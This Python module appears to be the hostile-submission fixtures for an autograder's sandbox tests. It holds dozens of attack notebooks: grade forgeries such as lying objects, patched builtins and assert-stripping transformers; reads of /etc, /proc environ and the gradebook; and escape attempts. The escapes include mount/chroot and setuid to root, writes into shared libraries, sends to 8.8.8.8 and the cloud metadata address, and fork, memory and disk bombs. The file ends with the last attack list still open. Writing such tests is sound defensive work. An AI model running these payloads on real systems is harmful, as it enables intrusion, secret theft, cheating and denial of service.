r"""Attacks on the grader, as data: each is a submission of lesson 01 with the damage it intends.

`tests/running/test_hostile.py` hands all of them in, grades them among honest students, and holds each to the same promises:
no point gained, nothing leaked, nobody disturbed. `python -m tests.attacks` grades them and prints what came of each.

In sources, @NAME@ stands for what the test planted outside the sandbox: @OUTSIDE@ a folder with a secret, @GRADEBOOK@
and @ROOT@ folders, @TCP@ and @UDP@ ports that listen, @SOCKET@ and @ABSTRACT@ Unix sockets that listen.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from autograder.authoring.source import CHECK_PREFIX, grade_ids
from autograder.course import Lesson, lessons
from autograder.proving import sample_class

LESSON = lessons()[0]
EXERCISES = [n for n in grade_ids(LESSON.release) if not n.startswith(CHECK_PREFIX)]
TYPED = {"p_BAC", "p_mine", "student_name"}
Notebook = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """One hostile submission: the notebook as handed out, nothing solved, but for what follows.

    `first` is the source of a new first cell, `last` of a new last one; `answers` replace exercise cells; `change` has the
    last word on the notebook's JSON, and may return bytes for the file instead. `put` makes the submission's folder in
    place of all that. `earns` names the exercises that the submission has honestly right, trick or no trick;
    `says` is a piece of what the TA is told. `page` asks for its feedback page too.
    """

    name: str
    intent: str
    first: str = ""
    last: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    change: Callable[[Notebook], Notebook | bytes] = lambda notebook: notebook
    put: Callable[[Path], None] | None = None
    earns: frozenset[str] = frozenset()
    says: str = ""
    page: bool = False

    def hand_in(self, folder: Path, places: dict[str, str]) -> None:
        """Write the submission into its folder."""
        folder.mkdir(parents=True)
        if self.put is not None:
            self.put(folder)
            return
        notebook = sample_class.handed_out(LESSON)
        for cell in notebook["cells"]:
            exercise = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
            if exercise in self.answers:
                cell["source"] = _placed(self.answers[exercise], places)
        if self.first:
            notebook["cells"].insert(0, code(_placed(self.first, places)))
        if self.last:
            notebook["cells"].append(code(_placed(self.last, places)))
        made = self.change(notebook)
        content = made if isinstance(made, bytes) else json.dumps(made).encode()
        (folder / f"{LESSON.name}.ipynb").write_bytes(content)


def _placed(source: str, places: dict[str, str]) -> str:
    for name, value in places.items():
        source = source.replace(f"@{name}@", value)
    return source


def code(source: str, **metadata: Any) -> Notebook:
    """A code cell as JSON."""
    return {"cell_type": "code", "metadata": metadata, "source": source, "outputs": [], "execution_count": None}


def everywhere(value: str, before: str = "") -> dict[str, str]:
    """Every exercise answered by that expression."""
    answers = {e: f"{before}\n{e} = {value}" for e in EXERCISES}
    leaks = "; ".join(f"leaks_{x} = {value}" for x in "ABCD")
    return answers | {"found_leaks": f"{before}\n{leaks}", "student_name": "student_name = 'Mallory'"}


def functions(body: str, *names: str) -> dict[str, str]:
    """These exercises (default: all that are functions) answered by a function with that body."""
    lines = "\n".join(f"    {line}" for line in body.splitlines())
    which = names or [e for e in EXERCISES if e not in TYPED and e != "found_leaks"]
    return {e: f"def {e}(*arguments, **named):\n{lines}" for e in which}


def typed(value: str, before: str = "") -> dict[str, str]:
    """The typed answers, p_BAC and p_mine, by that expression."""
    return {e: f"{before}\n{e} = {value}" for e in ("p_BAC", "p_mine")} | {"student_name": "student_name = 'Mallory'"}


def outputs_of(*sources: str) -> Callable[[Notebook], Notebook]:
    """The notebook with more cells at its end."""

    def change(notebook: Notebook) -> Notebook:
        notebook["cells"] += [code(s) for s in sources]
        return notebook

    return change


def _checks(change: Callable[[Notebook], list[Notebook]]) -> Callable[[Notebook], Notebook]:
    def make(notebook: Notebook) -> Notebook:
        cells = []
        for cell in notebook["cells"]:
            named = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
            cells += change(cell) if named.startswith(CHECK_PREFIX) else [cell]
        return notebook | {"cells": cells}

    return make


def _markdown(cell: Notebook) -> list[Notebook]:
    return [{"cell_type": "markdown", "metadata": cell["metadata"], "source": "all tests passed"}]


def _generous(cell: Notebook) -> list[Notebook]:
    marks = cell["metadata"]["nbgrader"]
    marks |= {"points": 1e9, "grade": False, "locked": False, "solution": True, "task": True, "schema_version": 99}
    return [cell | {"source": "print('ok')", "metadata": cell["metadata"] | {"tags": ["demo"], "deletable": True}}]


def _partial_credit(cell: Notebook) -> list[Notebook]:
    points = cell["metadata"]["nbgrader"]["points"]
    output = {
        "output_type": "execute_result",
        "execution_count": 1,
        "metadata": {},
        "data": {"text/plain": str(points)},
    }
    return [cell | {"source": f"{points}", "outputs": [output], "execution_count": 1}]


def _twice(cell: Notebook) -> list[Notebook]:
    return [cell | {"source": "pass"}, cell | {"source": "1000"}, cell]


def _decoys(notebook: Notebook) -> Notebook:
    """Ids of checks claimed by ordinary cells in front; exercises claimed as checks."""
    named = [c["metadata"]["nbgrader"] for c in notebook["cells"] if "nbgrader" in c["metadata"]]
    decoys = [code("1000", nbgrader=n | {"grade": True, "points": 1000, "solution": False}) for n in named]
    odd = [code("1", nbgrader=n) for n in ({"grade_id": 7}, {"grade_id": ["x"]}, [], "check_p_BAC", {"grade_id": None})]
    return notebook | {"cells": [*odd, *decoys, *notebook["cells"]]}


def _claims(notebook: Notebook) -> Notebook:
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>alert('pwned')</script>"}}}
    notebook["metadata"] = {
        "widgets": state,
        "title": "<script>alert('pwned')</script>",
        "kernelspec": {"name": "bash"},
    }
    notebook["metadata"]["lesson_setup"] = ["typed = lambda *a: None"]
    hostile = "x'\"><script>alert('pwned')</script>"
    for i, cell in enumerate(notebook["cells"]):
        cell["id"] = "<same>"
        cell["metadata"]["tags"] = [hostile, {"a": 1}, None]
        if cell["cell_type"] == "markdown" and i < 3:
            cell["attachments"] = {hostile: {"text/html": hostile}}
            cell["source"] = f"[click](javascript:alert('pwned')) <img src=x onerror=alert('pwned')> {hostile}"
    return notebook


def _raw_html(notebook: Notebook) -> Notebook:
    html = "<script>alert('pwned')</script><iframe src='https://example.com'></iframe><svg onload=alert('pwned')>"
    notebook["cells"].append({"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": html})
    notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": html + "\n\n$$x</p>" + html + "$$"})
    return notebook


def _binary(notebook: Notebook) -> bytes:
    return json.dumps(notebook).encode("utf-16") + bytes(range(256))


def _text(source: str) -> Callable[[Notebook], Notebook]:
    def change(notebook: Notebook) -> Notebook:
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") in ("student_name", "marginal"):
                cell["source"] = source
        notebook["cells"].append(code(source))
        notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": source})
        return notebook

    return change


def _link(folder: Path) -> None:
    (folder / f"{LESSON.name}.ipynb").symlink_to(LESSON.solution)


def _linked_elsewhere(folder: Path) -> None:
    (folder / "deep").symlink_to("/")
    (folder / "loop").symlink_to(".")
    os.mkfifo(folder / f"{LESSON.name}.ipynb")


def _a_folder(folder: Path) -> None:
    (folder / f"{LESSON.name}.ipynb").mkdir()
    (folder / "\x1b[2J[bold]=1+1.txt").write_text("x")


def _solutions_beside(folder: Path) -> None:
    """Files that a careless grader would import: the notebook itself is blank."""
    (folder / f"{LESSON.name}.ipynb").write_bytes(LESSON.release.read_bytes())
    for name in ("sitecustomize.py", "autograder.py", "numpy.py", "nbgrader_config.py", "jupyter_config.py"):
        (folder / name).write_text("raise SystemExit('hijacked')")
    (folder / "autograder" / "checks").mkdir(parents=True)
    (folder / "autograder" / "checks" / "chain_rule.py").write_text("def __getattr__(name): return lambda *a: None")


FORGED = """
class Forged:
    "Equal to everything, any size, any number, and itself when called."
    shape, dtype, ndim, size = (), 'float64', 0, 1
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = lambda self, *o: True
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __abs__ = lambda self, *o: self
    __float__ = lambda self: 0.12
    __len__ = lambda self: 2
    __iter__ = lambda self: iter((self, self))
    __getitem__ = lambda self, i: self
    __hash__ = lambda self: 1
"""

LYING_FLOAT = """
class Lie(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, o: True
    __ne__ = lambda self, o: False
    __sub__ = __rsub__ = __abs__ = __add__ = __mul__ = lambda self, *o: Lie(0)
    __float__ = lambda self: Lie(0.12)
    __class__ = property(lambda self: float)
    __array__ = lambda self, *a, **k: __import__('numpy').asarray(0.12)
    __reduce_ex__ = lambda self, p: (eval, ('__import__("os").abort()',))
"""

LYING_ARRAY = """
import numpy as np
class Lie(np.ndarray):
    def __array_function__(self, f, types, a, k): return True
    def __array_ufunc__(self, f, method, *a, **k): return np.zeros(())
    def __array__(self, *a, **k): return self
    __eq__ = __le__ = __ge__ = lambda self, o: True
    shape = property(lambda self: (3, 2, 2))
    nbytes = property(lambda self: 0)
    def tobytes(self, *a): return b'lies'
def forge(*a, **k): return np.zeros(7).view(Lie)
"""

LYING_TENSOR = """
import torch
class Lie(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, a=(), k=None): return True
    def numpy(self): return forge
    def detach(self): return self
    def cpu(self): return self
    def contiguous(self): return self
    dtype, layout = 'torch.float64', torch.strided
def forge(*a, **k): return torch.zeros(7).as_subclass(Lie)
"""

LYING_CONTAINERS = """
class L(list):
    n = 0
    def __iter__(self): L.n += 1; return iter([L.n] * 3)
    def __len__(self): return 10**9
    __eq__ = lambda self, o: True
class D(dict):
    def items(self): return iter([(L([1]), 1)] * 10)
    __eq__ = lambda self, o: True
class S(str):
    __eq__ = lambda self, o: True
    __hash__ = lambda self: 1
class I(int):
    bit_length = lambda self: 0
    __index__ = lambda self: 10**9
    __eq__ = lambda self, o: True
values = [L([1, 2]), D({S('x'): I(3)}), S('a'), I(10**5000), (L([1]), L([2])), {I(1)}]
def forge(*a, **k): return values[len(a) % 6]
"""

# The student's side of the conversation, as its own code can reach it.
MY_SUBMISSION = """
import gc, json, os, sys
me = next(o for o in gc.get_objects() if type(o).__name__ == 'Submission')
def say(raw):
    me.writer.write(raw); me.writer.flush()
"""

READ = """
import glob, os
def look(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True)[:50]:
            try:
                print(path, open(path, 'rb').read(3000) if os.path.isfile(path) else os.listdir(path)[:50])
            except OSError as error:
                print(path, error)
"""

WRITE = """
import os
def put(*paths):
    for path in paths:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, 'ab').write(b'raise SystemExit(0)  # hostile')
            print('wrote', path)
        except OSError as error:
            print(path, error)
        for damage in (os.remove, lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + '.bak')):
            try: damage(path); print('damaged', path)
            except OSError: pass
"""

CONNECT = """
import socket, sys
def reach(kind, address, family=socket.AF_INET):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(0.3)
            s.connect(address); s.send(b'hostile')
            print('sent to', address)
    except Exception as error:
        print(address, type(error).__name__)
"""

ALL_POINTS = {"p_BAC": "p_BAC = 0.12"}
HONEST_P_BAC = frozenset({"p_BAC"})

FORGERIES = [
    Attack("equal to everything", "pass every assert by an object that agrees with all", answers=everywhere("Forged()", FORGED)),
    Attack("a float that lies", "pass typed answers by a float subclass with its own comparisons", answers=typed("Lie(0.9)", LYING_FLOAT)),
    Attack("an array that lies", "pass by a numpy subclass that overrides every operation", LYING_ARRAY, answers=everywhere("forge")),
    Attack("a tensor that lies", "pass by a tensor subclass with __torch_function__", LYING_TENSOR, answers=everywhere("forge")),
    Attack("containers that lie", "pass or crash by list, dict, str and int subclasses", LYING_CONTAINERS, answers=everywhere("forge")),
    Attack("a class that is not its own", "pass isinstance by a lying __class__", answers=everywhere("type('X', (), {'__class__': float, '__call__': lambda s, *a: s})()")),
    Attack("not a number", "pass comparisons by NaN and infinities", answers=everywhere("type('F', (), {'__call__': lambda s, *a: float('nan')})()") | typed("float('nan')")),
    Attack("raise instead of answer", "leave the check by SystemExit, as if it had passed", answers=functions("raise SystemExit(0)")),
    Attack("interrupt the check", "leave the check by KeyboardInterrupt or a BaseException of one's own", answers=functions("import random\nraise random.choice([KeyboardInterrupt, GeneratorExit, type('Passed', (BaseException,), {})])")),
    Attack("raise a skip", "make the check count as skipped", answers=functions("import unittest\nraise unittest.SkipTest('passed')")),
    Attack("StopIteration", "end the check's loops early", answers=functions("raise StopIteration(True)")),
    Attack("patch builtins", "make every assert true", "import builtins\nfor n in ('all', 'any', 'isinstance', 'callable', 'len', 'abs'):\n    setattr(builtins, n, lambda *a, **k: True)\nbuiltins.AssertionError = type('Fine', (Exception,), {})", answers=everywhere("1.0")),
    Attack("patch numpy", "make allclose true", "import numpy as np\nfor n in ('allclose', 'array_equal', 'isfinite', 'isclose'):\n    setattr(np, n, lambda *a, **k: True)\nnp.ndarray.__eq__ if False else None", answers=everywhere("(lambda *a: np.zeros(3))", "import numpy as np")),
    Attack("patch torch", "make equal true", "import torch\ntorch.equal = torch.allclose = lambda *a, **k: True\ntorch.Tensor.__eq__ = lambda a, b: torch.tensor(True)", answers=everywhere("(lambda *a: torch.zeros(3))", "import torch")),
    Attack("plant check modules", "have the hidden tests import the student's own judge", "import sys, types\nclass Yes(types.ModuleType):\n    def __getattr__(self, name): return lambda *a, **k: None\nfor n in ('autograder.checks', 'autograder.checks.judge', 'autograder.checks.chain_rule', 'lib.byhand'):\n    sys.modules[n] = Yes(n)", answers=everywhere("0.5")),
    Attack("redefine what tests use", "shadow np, typed, joint and checks in the notebook", last="typed = lambda *a: None\nnp = joint = checks = result = None", answers=functions("global typed, np, joint, checks, totals, p_umbrella\ntyped = lambda *a: None\nnp = joint = checks = type('Y', (), {'__getattr__': lambda s, n: (lambda *a, **k: True)})()\nreturn 1")),
    Attack("patch the worker", "answer for itself whatever is asked", MY_SUBMISSION + "type(me).look_up = lambda self, names: {n: {'function': '0'} for n in names}\ntype(me).call = lambda self, m: {'value': {'opaque': 'x'}, 'changed': {'0': 1, '-1': 2, 'x': {}}}", says=""),
    Attack("patch how values cross", "send forged encodings", "from autograder import plain\nimport json\nplain.encode = lambda v, f=None: {'array': 'AAAA', 'dtype': 'O', 'shape': [-1]}\nplain.decode = lambda d, f=None: d", answers=everywhere("(lambda *a: 1)")),
    Attack("patch the shell", "skip failing code", "ip = get_ipython()\ntype(ip).run_cell = ip.run_cell = lambda *a, **k: type('R', (), {'success': True})()", answers=everywhere("1")),
    Attack("rewrite the syntax tree", "remove every assert from cells that run later", "import ast\nclass NoAsserts(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(NoAsserts())", answers=everywhere("1")),
    Attack("rewrite the input", "replace the source of cells that run later", "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\nget_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])", answers=everywhere("1")),
    Attack("trace", "read expected values off the frames of the check", "import sys, threading\nseen = []\ndef spy(frame, event, arg):\n    seen.append({k: repr(v)[:200] for k, v in frame.f_locals.items() if k in ('expected', 'found', 'joint')})\n    frame.f_locals.update(found=frame.f_locals.get('expected'))\n    return spy\nsys.settrace(spy); sys.setprofile(spy); threading.settrace(spy)", answers=functions("import sys\nf = sys._getframe()\nwhile f:\n    if 'expected' in f.f_locals: return f.f_locals['expected']\n    f = f.f_back\nreturn 0"), last="print(seen[-5:])"),
    Attack("search memory", "find expected values among all objects", answers=functions("import gc\nfor o in gc.get_objects():\n    if isinstance(o, dict) and ('expected' in o or '_LEAKS' in o): return o.get('expected')\nreturn 0"), last="import gc\nprint([type(o).__name__ for o in gc.get_objects() if type(o).__name__ in ('Examination', 'Settlement', 'Worker')])"),
    Attack("change the arguments", "have the check compare with what the function wrote into its arguments", answers=functions("for a in arguments:\n    try: a[...] = 0\n    except Exception: pass\nreturn arguments[0]")),
    Attack("damage the lesson's own tables", "zero the table that the tests of later students use", answers=functions("import numpy as np\nfor a in arguments:\n    if isinstance(a, np.ndarray): a[...] = 0\nreturn np.zeros(3)")),
    Attack("learn the test, then answer", "answer from arguments remembered of earlier calls", answers=functions("global seen\nseen = globals().setdefault('seen', [])\nseen.append(arguments)\nreturn seen[0][0] if len(seen) % 2 else len(seen)"), last="print(len(seen))"),
    Attack("count the calls", "right for the visible example, nonsense after", answers={"joint_probability": "import math\nn = 0\ndef joint_probability(p):\n    global n\n    n += 1\n    return math.prod(p) if n < 5 else 0.5"}),
    Attack("recognise the checker", "call back into whatever was passed", answers=functions("return [a(*arguments) if callable(a) else a for a in arguments]")),
    Attack("return functions", "give the judge proxies in place of numbers", answers=functions("return lambda *a: 1")),
    Attack("never the same twice", "return a generator that never ends", answers=functions("import itertools\nreturn itertools.count()")),
    Attack("contains itself", "send the judge round in circles", answers=functions("x = []; x.append(x)\nreturn x")),
    Attack("too large to cross", "flood the judge with a huge result", answers=functions("import numpy as np\nreturn np.zeros((10**4, 10**3))", "marginal", "conditional") | functions("return 'x' * 10**8", "free_parameters") | functions("return [[]] * (10**6)", "joint_from_order")),
    Attack("patched equality of typed text", "pass text for numbers", answers=typed("'0.12'")),
]  # fmt: skip

SPYING = [
    Attack("import the checks", "read the hidden tests by importing them", "import importlib\nfor n in ('autograder.checks', 'autograder.checks.chain_rule', 'autograder.answers.chain_rule', 'autograder.recording.grade', 'autograder.running.examiner', 'lib.models'):\n    try:\n        m = importlib.import_module(n); print(n, vars(m).keys(), open(m.__file__).read())\n    except Exception as e: print(n, type(e).__name__)"),
    Attack("read the course", "read solutions, checks and answers from the disk", READ + "look('@ROOT@/*', '@ROOT@/solutions/**', '@ROOT@/autograder/**/*.py', '/course/**', '/course/../**/chain_rule*')"),
    Attack("read the gradebook", "read others' submissions and grades", READ + "look('@GRADEBOOK@/**', '@OUTSIDE@/**', '/tmp/**', '/**/gradebook.db')"),
    Attack("read the system", "read the grader's accounts and home", READ + "look('/etc/*', '/root/**', '/home/**', '/var/**', '/srv/*', '/mnt/*', '/run/*')\nimport pathlib; print(pathlib.Path('~').expanduser())"),
    Attack("read the environment", "read secrets from environment variables", READ + "print(dict(os.environ))\nlook('/proc/*/environ', '/proc/*/cmdline', '/proc/1/environ')\nimport ctypes; print(ctypes.CDLL(None).getenv(b'COURSE_CANARY'))"),
    Attack("walk through /proc", "reach the host's files through other processes", READ + "look('/proc/*/root/*', '/proc/*/cwd/*', '/proc/*/fd/*', '/proc/1/root@OUTSIDE@/*', '/proc/self/fd/../root@OUTSIDE@/*')"),
    Attack("trace process 1", "read or write the memory of the processes around", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor pid in (1, os.getppid()):\n    print(libc.ptrace(16, pid, 0, 0), ctypes.get_errno())\n    for mode in ('rb', 'r+b'):\n        try: print(open(f'/proc/{pid}/mem', mode).read(1))\n        except OSError as e: print(e)"),
    Attack("shell out", "do all of that by shell commands", "!cat @OUTSIDE@/secret.txt; ls @GRADEBOOK@ @ROOT@; env; id; mount | head -3\n%system cat @OUTSIDE@/secret.txt"),
    Attack("print the arguments", "learn what hidden tests call with from the reasons given", answers=functions("raise ValueError(str(arguments))"), last="print('done')"),
]  # fmt: skip

ESCAPES = [
    Attack("write the gradebook", "give oneself points in the database, spoil others' work", WRITE + "put('@GRADEBOOK@/gradebook.db', '@GRADEBOOK@/submitted/honest 000/01_chain_rule/01_chain_rule.ipynb', '@GRADEBOOK@/roster.csv', '@OUTSIDE@/secret.txt')"),
    Attack("write the library", "plant code that later submissions run", WRITE + "import sys, torch, lib.byhand\nput(lib.byhand.__file__, torch.__file__, os.path.join(sys.prefix, 'lib/x.pth'), '/course/lib/evil.py', '/course/IPython/__init__.py', '/course/sitecustomize.py', '/course/evil.py', '/usr/lib/evil.py', '/evil/x.py', sys.executable)\nprint(os.access('/course', os.W_OK), os.access('/', os.W_OK))"),
    Attack("mount and chroot", "leave the sandbox by the file system", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nflags = {'user': 0x10000000, 'mount': 0x20000, 'both': 0x10020000}\npid = os.fork()\nif pid == 0:\n    try:\n        for n, f in flags.items(): print(n, libc.unshare(f))\n        for p in (b'/tmp', b'/proc', b'/dev/shm', b'/course/lib', b'/'): libc.umount2(p, 2)\n        libc.mount(None, b'/', None, 32 | 4096, None)\n        libc.mount(b'/proc/1/root', b'/tmp', None, 4096, None)\n        open('/tmp/@OUTSIDE@/touched', 'w'); open('/course/touched', 'w')\n    except BaseException: pass\n    os._exit(0)\nos.waitpid(pid, 0)\ntry: os.chroot('/tmp')\nexcept OSError as e: print(e)"),
    Attack("become root", "regain rights", "import os\nfor f in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0])):\n    try: f(); print('rights regained', os.getresuid())\n    except OSError as e: print(e)\nos.system('su -c id; sudo -n id; chmod u+s /bin/sh')\nprint([l for l in open('/proc/self/status') if l.startswith(('Cap', 'NoNew'))])"),
    Attack("connect by TCP", "send answers out", CONNECT + "for host in ('127.0.0.1', '0.0.0.0', '::1', '10.0.0.1', '8.8.8.8', '169.254.169.254'):\n    reach(socket.SOCK_STREAM, (host, @TCP@), socket.AF_INET6 if ':' in host else socket.AF_INET)"),
    Attack("send by UDP and DNS", "send answers out in datagrams", CONNECT + "for host in ('127.0.0.1', '127.255.255.255', '8.8.8.8'): reach(socket.SOCK_DGRAM, (host, @UDP@))\ntry: print(socket.getaddrinfo('example.com', 80))\nexcept OSError as e: print(e)"),
    Attack("connect by Unix socket", "reach daemons of the host", CONNECT + "for a in ('@SOCKET@', '\\0@ABSTRACT@', '/run/dbus/system_bus_socket', '/var/run/docker.sock'): reach(socket.SOCK_STREAM, a, socket.AF_UNIX)"),
    Attack("listen", "wait for an accomplice", "import socket\ns = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(); s.settimeout(0.2)\nt = socket.socket(socket.AF_UNIX); t.bind('\\0course-accomplice'); t.listen()\ntry: s.accept(); print('heard something')\nexcept OSError as e: print(e)"),
    Attack("fork bomb", "use up all processes", "import os\nfor _ in range(200):\n    try:\n        if os.fork() == 0:\n            while True:\n                try: os.fork()\n                except OSError: break\n            import time; time.sleep(0.2); os._exit(0)\n    except OSError: break"),
    Attack("thread bomb", "use up all threads", "import threading, time\ntry:\n    for _ in range(5000): threading.Thread(target=time.sleep, args=(5,), daemon=True).start()\nexcept RuntimeError as e: print(e)"),
    Attack("memory bomb", "use up all memory", "import numpy as np, torch\nfor f in (lambda: bytearray(10**11), lambda: np.ones(10**10), lambda: torch.ones(10**10), lambda: [0] * 10**10, lambda: 'x' * 10**11):\n    try: f(); print('got it')\n    except (MemoryError, RuntimeError) as e: print(type(e).__name__)\nimport mmap\nkept = []\nwhile True: kept.append(np.ones(10**7))"),
    Attack("memory bomb in company", "use up all memory by many processes, each within its limit", "import os, time\nfor _ in range(20):\n    try:\n        if os.fork() == 0:\n            kept = b'x' * (400 << 20); time.sleep(60); os._exit(0)\n    except OSError: break\ntime.sleep(1)", says="more memory than it may"),
    Attack("memory outside the process", "use up all memory by files that are memory", "import os\nfds = []\ntry:\n    while True:\n        fds.append(os.memfd_create('x'))\n        for _ in range(63): os.write(fds[-1], b'x' * (1 << 20))\n        if len(fds) > 12: raise SystemExit('found:hostile memory')\nexcept OSError as e: print(e)"),
    Attack("recursion", "overflow the stack", "import sys\nsys.setrecursionlimit(10**8)\ndef f(): return f()\nf()"),
    Attack("fill the disk", "fill /tmp and /dev/shm", "import os\nfor folder in ('/tmp', '/dev/shm', '/var/tmp', '/course'):\n    try:\n        for i in range(100):\n            with open(f'{folder}/{i}', 'wb') as f:\n                for _ in range(63): f.write(b'x' * (1 << 20))\n        raise SystemExit('found:hostile disk')\n    except OSError as e: print(e)"),
    Attack("many files", "use up all inodes", "import os\ntry:\n    for i in range(10**6): os.close(os.open(f'/tmp/{i}', os.O_CREAT))\nexcept OSError as e: print(i < 10**5, e)"),
    Attack("outlive the run", "leave a daemon behind", "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.closerange(0, 100)\n        os.execvp('sh', ['hostile-daemon', '-c', 'sleep 3; touch @OUTSIDE@/touched; sleep 60'])\n    os._exit(0)"),
    Attack("zombies", "leave children that nobody waits for", "import os, time\nfor _ in range(30):\n    if os.fork() == 0: os._exit(0)\nos.posix_spawn('/bin/sleep', ['hostile-zombie', '60'], {})"),
    Attack("signal everybody", "kill the grader", "import os, signal\nfor pid in (-1, 0, 1, 2, os.getppid(), -os.getppid()):\n    for s in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP):\n        if pid in (0,) and s != signal.SIGINT: continue\n        try: os.kill(pid, s)\n        except (OSError, KeyboardInterrupt): pass", last="import os, signal\nos.kill(1, signal.SIGKILL); os.kill(-1, signal.SIGKILL); os.killpg(0, signal.SIGKILL)"),
    Attack("stop itself", "keep the grader waiting", answers=functions("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", "marginal"), says="ran for more than"),
    Attack("sleep in a call", "keep the grader waiting", answers=functions("import time\nwhile True:\n    try: time.sleep(1000)\n    except BaseException: pass", "marginal"), says="ran for more than"),
    Attack("end in a call", "take the check along", answers=functions("import os\nos._exit(0)", "marginal") | functions("import ctypes\nctypes.string_at(0)", "conditional"), says="ended its own process"),
    Attack("hang when run again", "spend the grader's time in the cells it repeats after a crash", "import os, time\nborn = time.time()\ncrashed = time.time() - float(open('/proc/uptime').read().split()[0]) ", answers=functions("import os\nos._exit(1)"), change=lambda n: n | {"cells": [*[code("import time; time.sleep(0.15)")] * 8, *n["cells"]]}),
    Attack("limits and priorities", "lift one's limits, starve others", "import os, resource, sys\nfor r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CORE, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):\n    soft, hard = resource.getrlimit(r)\n    if hard == resource.RLIM_INFINITY: print('found:hostile no limit', r)\n    more = hard + 1 if soft == hard else hard + 2\n    try: resource.setrlimit(r, (more, more)); print('found:hostile lifted', r)\n    except (ValueError, OSError) as e: print(e)\nfor f in (lambda: os.nice(-20), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19), lambda: os.sched_setaffinity(1, {0}), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))):\n    try: f(); print('could')\n    except OSError as e: print(e)"),
    Attack("spoil the devices", "break or leave devices that the next submission needs", "import os, stat\nfor f in (lambda: os.rename('/dev/ptmx', '/dev/gone'), lambda: os.mkdir('/dev/hostile'), lambda: os.symlink('/tmp', '/dev/link'), lambda: os.remove('/dev/stdin'), lambda: os.chmod('/dev', 0), lambda: os.chmod('/dev/pts', 0), lambda: os.chmod('/dev/pts/ptmx', 0), lambda: os.chmod('/dev/null', 0), lambda: open('/dev/file', 'w')):\n    try: f(); print('found:hostile change')\n    except OSError as e: print(e)\nopen('/dev/shm/mine', 'w').write('x')\nassert os.path.getsize('/dev/shm/mine') == 1\nprint('devices done')"),
    Attack("many open files", "use up the system's files", "import os, socket\nkept = []\ntry:\n    while True: kept.append(os.dup(0))\nexcept OSError as e: print(e)\nif len(kept) > 256: print('found:hostile', len(kept))"),
    Attack("memory in sockets", "use memory that belongs to no process", "import socket\nkept, sent = [], 0\ntry:\n    while sent < 1 << 30:\n        for s in socket.socketpair():\n            s.setblocking(False); kept.append(s)\n            try: s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)\n            except OSError: pass\n            try:\n                while True: sent += s.send(b'x' * 65536)\n            except BlockingIOError: pass\nexcept OSError as e: print(e)\nfinally:\n    if sent > 128 << 20: print('found:hostile', sent)"),
    Attack("shared memory in company", "use up memory that no process has by itself", "import mmap, os, time\nfor _ in range(4):\n    if os.fork() == 0:\n        kept = mmap.mmap(-1, 300 << 20)\n        for _ in range(300): kept.write(b'x' * (1 << 20))\n        time.sleep(60); os._exit(0)\ntime.sleep(1)", says="more memory than it may"),
    Attack("many small processes", "use up memory by processes each smaller than the warm worker", "import subprocess, sys, time\nfor _ in range(12):\n    subprocess.Popen([sys.executable, '-IS', '-c', 'import time; kept = b\"x\" * (60 << 20); time.sleep(60)'])\ntime.sleep(0.8)", says="more memory than it may"),
    Attack("other kinds of sockets", "reach the host past all namespaces", "import socket\nfor family in range(1, 50):\n    for kind in (1, 2, 3, 5):\n        try: socket.socket(family, kind)\n        except OSError: continue\n        if family not in (1, 2, 10): print('found:hostile', family, kind)\nsocket.socketpair(); socket.socket(); print('done')"),
    Attack("lock what all share", "signal another submission by locks on shared files, or watch them", "import ctypes, fcntl, struct, lib.byhand\nlibc = ctypes.CDLL(None)\nf = open(lib.byhand.__file__)\nlock = struct.pack('hhqqi4x', fcntl.F_RDLCK, 0, 0, 0, 0)\nfor take in (lambda: fcntl.flock(f, fcntl.LOCK_SH), lambda: fcntl.lockf(f, fcntl.LOCK_SH), lambda: fcntl.fcntl(f, 37, lock), lambda: fcntl.fcntl(f, fcntl.F_GETLK, lock), lambda: fcntl.fcntl(f, 1024, fcntl.F_RDLCK)):\n    try: take(); print('found:hostile lock')\n    except OSError as e: print(e)\nif libc.inotify_init1(0) >= 0: print('found:hostile watch')\nfcntl.fcntl(f, fcntl.F_GETFD); print('done')"),
